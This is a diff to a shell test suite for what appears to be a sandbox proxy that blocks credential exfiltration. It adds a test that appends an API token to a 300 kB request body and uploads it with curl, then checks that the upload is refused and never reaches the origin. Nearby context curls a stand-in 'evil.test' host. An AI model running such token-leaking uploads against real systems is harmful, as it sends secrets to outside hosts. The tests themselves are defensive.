@@ -133,6 +133,19 @@ check_eq "the placeholder to other hosts: refused in a header, a query and a bod
 check_eq "... three exfiltration records" 3 \
 	"$(jq -c 'select(.decision=="deny" and (.reason // "" | test("exfiltration")))' "$AUDIT" | wc -l)"
 
+# ... also deep in a body that arrives after its head (the whole body is searched as it goes upstream): the
+# request is cut off before the placeholder, the origin never gets a complete request.
+out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c '
+	head -c 300000 /dev/zero | tr "\0" a >/tmp/big && printf "&key=%s" "$API_TOKEN" >>/tmp/big
+	curl -sS -m 10 -o /dev/null -w "%{http_code}" -H "Expect:" --data-binary @/tmp/big https://allowed.test/upload/big
+	echo " status $?"' 2>/dev/null)
+check_not "a placeholder after 300 kB of body: the upload does not succeed" grep -q '^200' <<<"$out"
+diag "curl: $out"
+check_match "... refused as exfiltration, with the credential's rule" \
+	"\"path\":\"/upload/big\",\"decision\":\"deny\",\"rule\":\"$LAB_DIR/pol.json:[0-9]+:[0-9]+\".*exfiltration: this request's body" \
+	"$(jq -c 'select(.protocol=="https")' "$AUDIT")"
+check_not "... and the origin never got the request" grep -q '/upload/big' <<<"$(lab_http_requests)"
+
 # 5. An upstream whose certificate is not trusted: a clear 502, audited.
 out=$(sb --policy "$LAB_DIR/pol.json" -- sh -c 'curl -sS -m 10 https://evil.test:9443/; echo "status $?"' 2>&1)
 check_match "an untrusted upstream certificate: 502 with the reason" 'not trusted: self-signed certificate' "$out"
